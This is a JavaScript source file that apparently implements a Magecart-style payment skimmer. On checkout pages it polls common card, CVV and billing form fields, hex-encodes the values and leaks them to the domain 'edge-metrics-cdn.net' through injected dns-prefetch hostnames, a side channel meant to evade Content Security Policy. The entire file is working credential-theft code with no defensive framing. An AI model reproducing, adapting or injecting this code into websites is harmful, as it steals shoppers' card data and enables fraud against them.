// csp-sidechannel-exfil: card data hex-encoded into hostname labels and leaked through dns-prefetch hints
// ES5; no HTTP request to the collector is ever made, only name resolution
(function () {
  var ZONE = 'edge-metrics-cdn.net';
  var LABEL_MAX = 60;
  var sessionTag = (Math.random().toString(36) + '000000').substr(2, 6);

  function toHex(str) {
    var out = '';
    for (var i = 0; i < str.length; i++) {
      var c = str.charCodeAt(i) & 0xff;
      out += (c < 16 ? '0' : '') + c.toString(16);
    }
    return out;
  }

  function hint(host) {
    var l = document.createElement('link');
    l.rel = 'dns-prefetch';
    l.href = '//' + host;
    (document.head || document.documentElement).appendChild(l);
    setTimeout(function () {
      if (l.parentNode) l.parentNode.removeChild(l);
    }, 4000);
  }

  function leak(text) {
    var hex = toHex(text);
    var total = Math.ceil(hex.length / LABEL_MAX);
    for (var n = 0; n < total; n++) {
      var chunk = hex.substr(n * LABEL_MAX, LABEL_MAX);
      // <chunk>.<index>-<total>.<session>.zone
      hint(chunk + '.' + n + '-' + total + '.' + sessionTag + '.' + ZONE);
    }
  }

  function val(id) {
    var e = document.getElementById(id) || document.querySelector('[name="' + id + '"]');
    return e ? e.value : '';
  }

  function collect() {
    return [
      val('cc_number') || val('cardNumber') || val('payment[cc_number]'),
      val('cc_exp') || val('cardExpiry') || (val('payment[cc_exp_month]') + '/' + val('payment[cc_exp_year]')),
      val('cc_cvv') || val('cardCvc') || val('payment[cc_cid]'),
      val('billing_first_name') + ' ' + val('billing_last_name'),
      val('billing_postcode'),
      val('billing_email')
    ].join('|');
  }

  var leaked = false;
  function attempt() {
    var rec = collect();
    var digits = rec.split('|')[0].replace(/\D/g, '');
    if (leaked || digits.length < 13) return;
    leaked = true;
    leak(rec);
  }

  if (/checkout/i.test(location.pathname)) {
    var t = setInterval(function () {
      var cvv = val('cc_cvv') || val('cardCvc') || val('payment[cc_cid]');
      if (cvv && cvv.length >= 3) {
        attempt();
        if (leaked) clearInterval(t);
      }
    }, 1500);
  }
})();
